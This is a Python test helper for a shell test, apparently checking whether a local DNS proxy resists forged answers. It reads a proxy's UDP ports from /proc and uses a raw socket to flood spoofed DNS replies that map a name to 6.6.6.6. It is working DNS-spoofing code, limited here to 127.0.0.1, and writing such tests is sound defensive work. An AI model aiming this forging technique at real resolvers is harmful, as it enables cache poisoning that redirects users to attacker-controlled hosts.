#!/usr/bin/env python3
"""forger.py: forges a peer's answers, for test_forgery.sh.

  forger.py PEER_PORT PROXY_PID QNAME COUNT OUT

Learns once, from /proc/net/udp, the ports of the proxy's sockets that are
connected to 127.0.0.1:PEER_PORT (an attacker who found out a port once;
random ports of the ephemeral range when there is none), then sends COUNT
answers "from" 127.0.0.1:PEER_PORT (a raw socket: root) for QNAME A with
the address 6.6.6.6 and random IDs, spread over those ports. Writes
"ports N sent N" to OUT.
"""
import os
import random
import socket
import struct
import sys

peer_port, pid, qname, count, out = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), sys.argv[5]


def proxy_inodes():
    inodes = set()
    for fd in os.listdir("/proc/%d/fd" % pid):
        try:
            link = os.readlink("/proc/%d/fd/%s" % (pid, fd))
        except OSError:
            continue
        if link.startswith("socket:["):
            inodes.add(link[8:-1])
    return inodes


def ports():
    mine, found = proxy_inodes(), []
    want_rem = "0100007F:%04X" % peer_port
    with open("/proc/net/udp") as f:
        next(f)
        for line in f:
            p = line.split()
            if p[2] == want_rem and p[9] in mine:
                found.append(int(p[1].split(":")[1], 16))
    return found


def wire(name):
    return b"".join(bytes([len(l)]) + l.encode() for l in name.rstrip(".").split(".")) + b"\0"


targets = ports()
learned = len(targets)
if not targets:
    lo, hi = map(int, open("/proc/sys/net/ipv4/ip_local_port_range").read().split())
    targets = [random.randint(lo, hi) for _ in range(64)]
question = wire(qname) + struct.pack(">HH", 1, 1)
rr = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 3600, 4) + socket.inet_aton("6.6.6.6")
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sent = 0
for i in range(count):
    port = targets[i % len(targets)]
    dns = struct.pack(">HHHHHH", random.getrandbits(16), 0x8580, 1, 1, 0, 0) + question + rr
    udp = struct.pack(">HHHH", peer_port, port, 8 + len(dns), 0) + dns
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                     socket.inet_aton("127.0.0.1"), socket.inet_aton("127.0.0.1"))
    try:
        raw.sendto(ip + udp, ("127.0.0.1", 0))
        sent += 1
    except OSError:
        pass
with open(out, "w") as f:
    f.write("ports %d sent %d\n" % (learned, sent))
